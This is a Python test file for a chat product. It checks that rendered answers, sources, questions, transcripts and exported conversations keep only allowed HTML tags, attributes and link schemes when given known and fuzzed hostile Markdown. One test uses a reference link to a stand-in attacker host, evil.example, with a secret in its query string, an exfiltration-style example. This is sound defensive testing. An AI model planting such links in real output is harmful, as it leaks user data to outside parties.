"""Whatever an answer, a passage, a name or a question holds, a page shows words: nothing runs, nothing is fetched."""

from collections.abc import Callable
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from lxml import html
from lxml.html import HtmlElement
from markdown_it import MarkdownIt

from core.messages import Mode, Source, StoredTurn, TurnRecord, TurnStatus
from pages.bubbles import answer_bubble, question_bubble, safe_html, source_list
from pages.customer_markdown import render_markdown
from pages.customer_stream import shown_sources
from pipelines.export import conversation_markdown
from pipelines.foreign_markdown import is_shown_link
from tests.support.fuzzing import attempts
from tests.support.hostile_markdown import ATTACKS, hostile

TAGS = {
    "p", "br", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "hr", "div", "span",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "details", "summary",
    "bdi",
}  # fmt: skip
ATTRIBUTES = {"class", "href", "title", "rel", "target", "start", "tabindex"}
MOMENT = datetime(2026, 11, 23, 9, tzinfo=UTC)


def elsewhere(markdown: str) -> str:
    """HTML as a reader of Markdown makes it that trusts what it reads, as Gradio's and a desktop's do."""
    reader = MarkdownIt("commonmark", {"html": True, "breaks": True}).enable(["table", "strikethrough"])
    reader.validateLink = lambda _: True  # type: ignore[method-assign]
    return str(reader.render(markdown))


def answered(text: str) -> StoredTurn:
    source = Source(text, text, text, 0.9, text)
    record = TurnRecord(text, Mode.GENERATED, TurnStatus.DONE, "en", "openai", sources=[source])
    return StoredTurn("t", "c", MOMENT, text, record, "chat", "shop", "r")


SHOWN: dict[str, Callable[[str], str]] = {
    "an answer on the customer's page": render_markdown,
    "a source on the customer's page": lambda text: shown_sources([Source("d", "t", "l", 0.9, text)])[0][
        "html"
    ],
    "an answer in the console": lambda text: elsewhere(answer_bubble(answered(text).record, "en")),
    "a question in the console": lambda text: elsewhere(question_bubble(text)),
    "sources in the console": lambda text: elsewhere(
        source_list([Source(text, text, text, 0.9, text)], "zh")
    ),
    "a transcript in the console": safe_html,
    "an exported conversation": lambda text: elsewhere(conversation_markdown([answered(text)])),
}


def assert_harmless(page: str) -> None:
    root = html.fragment_fromstring(page.replace("\0", ""), create_parent="div")
    for element in root.iter():
        assert isinstance(element, HtmlElement), f"a comment or instruction: {element!r}"
        assert element.tag in TAGS
        # of a table's cells, where Markdown is read
        alignment = element.attrib.pop("style", "text-align:left")
        assert alignment in ("text-align:left", "text-align:center", "text-align:right")
        assert element.attrib.pop("dir", "rtl") in ("ltr", "rtl")
        assert set(element.attrib) <= ATTRIBUTES, element.attrib
        assert "href" not in element.attrib or is_shown_link(element.attrib["href"])


@pytest.mark.parametrize("place", SHOWN)
@pytest.mark.parametrize("text", ATTACKS)
def test_a_known_attack_is_words(place: str, text: str) -> None:
    assert_harmless(SHOWN[place](text))


@pytest.mark.parametrize("place", SHOWN)
@settings(max_examples=attempts(120), deadline=None)
@given(text=hostile())
def test_an_attack_that_nobody_thought_of_is_words(place: str, text: str) -> None:
    assert_harmless(SHOWN[place](text))


@pytest.mark.parametrize("place", SHOWN)
def test_a_link_behind_a_reference_keeps_its_words_alone(place: str) -> None:
    shown = SHOWN[place]("See [the form][1] and ![a chart][1].\n\n[1]: https://evil.example/?d=secret")
    assert "the form" in shown
    assert "a chart" in shown
    # the others show names, too
    if place in ("an answer on the customer's page", "a transcript in the console"):
        assert "evil.example" not in shown


@pytest.mark.parametrize(
    ("link", "shown"),
    [("https://a.example/b?c=1", True), ("mailto:a@b.example", True), ("tel:+86-400-800", True),
     ("http://a.example", False), ("ftp://a.example", False), ("//a.example", False), ("/chat", False)],
)  # fmt: skip
def test_only_a_page_over_tls_a_mailbox_or_a_phone_is_linked(link: str, shown: bool) -> None:
    page = render_markdown(f"[words]({link})")
    assert ("<a " in page) is shown
    assert "words" in page
    assert "](" not in page
